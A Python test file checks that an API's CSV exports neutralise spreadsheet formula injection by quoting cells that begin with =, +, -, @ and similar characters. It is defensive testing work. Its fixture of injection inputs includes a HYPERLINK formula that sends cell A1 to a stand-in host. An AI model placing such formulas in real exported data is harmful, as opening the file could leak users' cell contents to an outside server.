"""CSV that a spreadsheet opens without computing anything, and that can be undone."""

import csv
import re
from io import StringIO
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from api.formats.predictions import write_csv as write_predictions
from api.formats.tables import write_arrow, write_csv

FORMULAS = ("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "＝1", '=HYPERLINK("http://a.example?"&A1)')
HARMLESS = ("ana", "a=b", "'quoted'", "1-1", " =1", "", "ü", 'a "b", c')


def cells(content: bytes) -> list[list[str]]:
    return list(csv.reader(StringIO(content.decode(), newline="")))


def undone(cell: str) -> str:
    """What was stored, as the documentation says."""
    return re.sub(r"^'(?='*[=+\-@\t\r\n＝＋－＠])", "", cell)


def texts(*values: str | None) -> pa.RecordBatch:
    return pa.RecordBatch.from_pydict({"student_id": pa.array(values, pa.string())})


@pytest.mark.parametrize("text", FORMULAS)
def test_no_text_is_a_formula(text: str) -> None:
    [[_], [cell]] = cells(write_csv(texts(text)))
    assert cell == f"'{text}"


@pytest.mark.parametrize("text", [*FORMULAS, *HARMLESS, "'=1", "''-1"])
def test_what_was_stored_can_be_had_back(text: str) -> None:
    [[_], [cell, *_]] = cells(write_csv(texts(text)))
    assert undone(cell) == text
    assert (cell == text) == (text in HARMLESS)


def test_text_that_is_coded_is_text() -> None:
    batch = pa.RecordBatch.from_pydict({"skill": pa.array(["=1", "add", "=1", None]).dictionary_encode()})
    assert cells(write_csv(batch))[1:] == [["'=1"], ["add"], ["'=1"], []]


def test_no_member_of_a_list_is_a_formula() -> None:
    lists = pa.array([["add", "=1"], ["-1"], [], None], pa.list_(pa.string()))
    [_, *found] = cells(write_csv(pa.RecordBatch.from_pydict({"skills": lists, "n": pa.array([1, 2, 3, 4])})))

    assert [row[0] for row in found] == ["add;'=1", "'-1", "", ""]


def test_numbers_stay_numbers() -> None:
    columns = {"a": pa.array([-1.5, None]), "b": pa.array([-3, 4]), "c": pa.array([True, None])}
    [_, *found] = cells(write_csv(pa.RecordBatch.from_pydict(columns)))

    assert found == [["-1.5", "-3", "true"], ["", "4", ""]]


def test_arrow_tells_text_as_it_is() -> None:
    [found] = pa.ipc.open_stream(write_arrow(texts("=1"))).read_all().to_pydict().values()
    assert found == ["=1"]


def test_predictions_are_written_by_the_same_rule(tmp_path: Path) -> None:
    path = tmp_path / "predictions.parquet"
    pq.write_table(pa.table({"student_id": ["=1"], "skills": [["@a", "b"]], "probability": [0.5]}), path)

    assert cells(b"".join(write_predictions(path)))[1] == ["'=1", "'@a;b", "0.5"]
